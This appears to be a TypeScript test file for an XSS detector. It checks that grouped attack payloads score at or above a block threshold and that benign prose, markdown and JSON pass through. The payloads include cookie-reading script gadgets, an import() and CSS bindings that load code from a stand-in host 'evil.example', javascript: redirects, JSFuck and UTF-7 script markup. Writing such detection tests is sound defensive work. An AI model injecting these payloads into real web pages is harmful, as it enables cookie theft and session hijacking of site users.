import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Candidate } from "../src/detectors/types.js";
import { findCss } from "../src/detectors/xss/css.js";
import { xssDetector } from "../src/detectors/xss/index.js";
import { stripJsComments } from "../src/detectors/xss/script-sinks.js";

const BLOCKS = 0.7;

function scoreOf(value: string): number {
  const candidate: Candidate = { location: "body.q", kind: "body", raw: value, canonical: value, name: "q" };
  return xssDetector.detect(candidate)?.score ?? 0;
}

const ATTACKS: Record<string, readonly string[]> = {
  "script gadgets": [
    "document/*foo*/./*bar*/cookie",
    '(document)["cookie"]',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-literal injection payload, on purpose
    "[  ] . sort . call ` ${ alert } 1337 `",
    "Reflect.apply.call``",
    'document.body.appendChild(document.createElement("script"))',
    'import("//evil.example/x.js")',
  ],
  "tag-stripped script": ["scriptalert(crosssitescripting)/script", "-1scriptdocument.cookie=true;/script"],
  "location assignment": ['location="http://evil.example";', "location='javascript:alert(1)'", "x;location=//evil.example"],
  "JSFuck-style code": ["+!![]", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"],
  "code definitions": ["function makePopups(){", '$("a.bar").click(function() {', "for (i=1;i<6;i++) {"],
  CSS: [
    "*{color:red}",
    '@font-face {font-family: y; src: url("font.svg#x")}',
    'body {font: 100px "y";}',
    "-moz-binding:url(http://evil.example/xss.xml#xss)",
    "width:expression(alert(1))",
  ],
  "markup switches": ["<!-- up to FF 13 -->", "<![CDATA[", 'xmlns:svg="http://www.w3.org/2000/svg">', ';!--"<xss>=&{()}'],
  "event handler inside an open tag": ["<x </onxxx=1"],
  "UTF-7 markup": ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
  "markup in an XML document's attribute": ['<?xml version="1.0"?><root><a probe="<BASE dsfds HREF / ="></a></root>'],
};

const BENIGN = [
  "a regular expression (regex) for emails",
  "the function (x) is continuous",
  "I'm at location = home",
  "my location: Paris",
  "a [b] (c)!",
  "1+1=2",
  "![alt text](https://example.com/a.png)",
  'JSON like {"color": "red"}',
  "{name: value}",
  "call me at 5",
  "A --> B",
  "import the data (and wait)",
  '<?xml version="1.0"?><feed><title>News</title><link href="https://example.com/"/></feed>',
  "If you’re willing to import (and perhaps wait around)",
  "+1 (555) 123-4567",
];

describe("xssDetector: gadgets, CSS and markup switches", () => {
  for (const [technique, payloads] of Object.entries(ATTACKS)) {
    it(`blocks ${technique}`, () => {
      for (const payload of payloads) assert.ok(scoreOf(payload) >= BLOCKS, `expected a finding for ${JSON.stringify(payload)}`);
    });
  }

  it("lets prose, markdown, JSON and a plain XML feed through", () => {
    for (const value of BENIGN) assert.ok(scoreOf(value) < BLOCKS, `false positive on ${JSON.stringify(value)}: ${scoreOf(value)}`);
  });

  it("strips JS block comments and keeps an unterminated one", () => {
    assert.equal(stripJsComments("a/*x*/b/**/c"), "a b c");
    assert.equal(stripJsComments("a/*x"), "a/*x");
  });

  it("needs a real CSS property to call a brace block CSS", () => {
    assert.equal(findCss("{foo: 1}"), undefined);
    assert.equal(findCss("{color: red}")?.what, "CSS rule block");
  });
});
